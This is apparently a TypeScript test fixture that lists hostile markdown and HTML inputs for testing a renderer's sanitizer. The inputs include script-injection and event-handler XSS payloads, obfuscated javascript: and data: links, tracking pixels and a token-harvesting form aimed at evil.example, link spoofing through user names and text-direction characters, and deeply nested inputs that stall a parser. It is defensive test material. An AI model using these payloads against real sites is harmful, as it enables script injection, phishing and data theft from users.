const DEEP = 5_000;

const SCRIPT = 'alert(document.domain)';

/** Texts that try to run code, to load something, to look like the panel, or to stall it. */
export const HOSTILE_TEXTS: readonly (readonly [string, string])[] = [
  ['a script', `<script>${SCRIPT}</script>`],
  ['a script in a paragraph', `Vote <script src="https://evil.example/x.js"></script> now`],
  ['a script that is never closed', `<script>${SCRIPT}`],
  ['a frame with its own document', `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe>`],
  ['an image with a handler', `<img src=x onerror="${SCRIPT}">`],
  ['an image of elsewhere', '![pixel](https://evil.example/pixel.gif?who=reader)'],
  ['an image of a script', `![x](javascript:${SCRIPT})`],
  ['an image with a quote in its name', `!["onerror="${SCRIPT}](https://evil.example/x.png)`],
  ['an image by name', '![x][pixel]\n\n[pixel]: https://evil.example/pixel.gif'],
  ['a drawing with a handler', `<svg onload="${SCRIPT}"><animate onbegin="${SCRIPT}"/></svg>`],
  [
    'a formula with a link',
    `<math><maction actiontype="statusline" xlink:href="javascript:${SCRIPT}">x</maction></math>`,
  ],
  ['a form', '<form action="https://evil.example/"><input name="token"><button>Connect</button></form>'],
  ['a link to a script', `[Vote](javascript:${SCRIPT})`],
  ['a link to a script, written oddly', `[Vote](JaVa\tScRiPt:${SCRIPT})`],
  ['a link to a script, in entities', `[Vote](&#106;avascript&colon;${SCRIPT})`],
  ['a link to a script, after a control', `[Vote](\u0001javascript:${SCRIPT})`],
  ['a link to a script by name', `[Vote][v]\n\n[v]: javascript:${SCRIPT}`],
  ['a bare link to a script', `<javascript:${SCRIPT}>`],
  ['a link to data', '[Vote](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['a link to the browser', '[Vote](chrome-extension://abc/options.html) [Vote](about:config)'],
  ['a link with its host in its words', '[https://snapshot.org/](https://evil.example/)'],
  ['a link with a user name', '[Vote](https://snapshot.org@evil.example/)'],
  ['a link that turns its words', '[Vote \u202egro.tohspans\u202c](https://evil.example/)'],
  ['text that turns the line', 'Yes \u202e means no \u2066 and stays'],
  ['text of marks', `Z${'\u0335\u0321\u0353'.repeat(2_000)}algo`],
  ['a handler in a title', `[Vote](https://ok.example/ "x" onmouseover="${SCRIPT}")`],
  ['an id of ours', '# Outcome\n\n<h3 id="root">Outcome</h3>'],
  [
    'names of every object',
    '[__proto__][__proto__] [constructor]\n\n[__proto__]: https://evil.example/\n[constructor]: javascript:1',
  ],
  ['quotes within quotes', `${'>'.repeat(DEEP)} deep`],
  ['lists within lists', `${'- '.repeat(DEEP)}deep`],
  ['emphasis within emphasis', `${'*_'.repeat(DEEP)}deep${'_*'.repeat(DEEP)}`],
  ['brackets within brackets', `${'['.repeat(DEEP)}deep${']'.repeat(DEEP)}(https://evil.example/)`],
  ['links of links', '[a]('.repeat(DEEP)],
  ['a table of many cells', `${'|a'.repeat(DEEP)}\n${'|-'.repeat(DEEP)}\n${'|b'.repeat(DEEP)}`],
  ['addresses within addresses', 'www.a_'.repeat(DEEP)],
  ['headings under headings', 'a\n=\n'.repeat(DEEP)],
  ['lines over one underline', `${'a\n'.repeat(DEEP)}===`],
  ['backticks without end', '`'.repeat(50_000)],
  ['a line without end', 'a'.repeat(200_000)],
  [
    'every paragraph there is',
    'A paragraph **of** some _length_ with [a link](https://ok.example/).\n\n'
      .repeat(3_000)
      .slice(0, 200_000),
  ],
];
